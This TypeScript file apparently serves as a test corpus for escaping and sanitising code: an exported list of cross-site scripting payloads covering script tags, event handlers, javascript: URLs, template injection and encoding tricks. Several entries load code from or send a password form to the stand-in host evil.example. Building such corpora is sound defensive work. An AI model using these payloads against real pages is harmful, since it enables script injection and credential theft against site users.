/**
 * Texts that become code if they are inserted unescaped into a page, an attribute, a script, a
 * style, or a template. Each calls `xss()` or requests something from evil.example. As text they do
 * neither.
 */
export const xssCorpus: readonly string[] = [
  // Elements with scripts.
  "<script>xss()</script>",
  "</script><script>xss()</script>",
  "</ScRiPt\t><sCrIpT>xss()</sCrIpT >",
  '"><script>xss()</script>',
  "'><script>xss()</script>",
  "--><script>xss()</script><!--",
  "]]><script>xss()</script>",
  "</title></style></textarea><script>xss()</script>",
  "<script src=//evil.example/x.js></script>",
  '<script src="data:text/javascript,xss()"></script>',
  '<script type=module>import "https://evil.example/m.js"</script>',
  // Handlers that need no click.
  "<img src=x onerror=xss()>",
  '"><img src=x onerror="xss()">',
  "<img/src=x/onerror=xss()>",
  "<svg onload=xss()>",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  "<body onload=xss()>",
  "<input autofocus onfocus=xss()>",
  "<details open ontoggle=xss()>",
  "<video><source onerror=xss()></video>",
  '" autofocus onfocus="xss()" x="',
  // Text that parses differently the second time.
  "<math><mtext><style><img src=x onerror=xss()></style></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  "<template><script>xss()</script></template>",
  // Documents in the document, and other hosts.
  '<iframe src="javascript:parent.xss()"></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object data="javascript:xss()"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<img src="https://evil.example/pixel.png">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password>',
  // URLs.
  '<a href="javascript:xss()">here</a>',
  "javascript:xss()",
  "JaVa\tScRiPt:xss()//",
  "\u0001javascript:xss()",
  "data:text/html,<script>xss()</script>",
  "//evil.example/path",
  // Styles.
  '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>',
  '" style="background:url(https://evil.example/z)',
  "expression(xss())",
  // Templates.
  '{{constructor.constructor("xss()")()}}',
  `\${xss()}`,
  "{{7*7}}{% assign x = 1 %}",
  "<%= xss() %>#{xss()}",
  // JSON, scripts, and comments that end too early.
  '"}]);xss();//',
  '\\"}]);xss();//',
  '"])</script><script>xss()</script>',
  "*/xss();/*",
  "\u2028xss()\u2029;xss();//",
  // Markdown.
  "[here](javascript:xss()) ![x](https://evil.example/md.png)",
  // Invisible or differently encoded text.
  "\u202e>tpircs/<)(ssx>tpircs<\u202c",
  "\u0000<script\u0000>xss()</script>",
  "\ud800<img src=x onerror=xss()>",
  "＜script＞xss()＜/script＞",
  "+ADw-script+AD4-xss()+ADw-/script+AD4-",
  "%3Cscript%3Exss()%3C/script%3E",
  "&lt;script&gt;xss()&lt;/script&gt;&#x3c;img src=x onerror=xss()>",
  // Names that objects already have.
  "__proto__",
  "constructor",
  // Long ones.
  "<img src=x onerror=xss()>".repeat(2_000),
  `${"<b>".repeat(5_000)}<script>xss()</script>`,
];
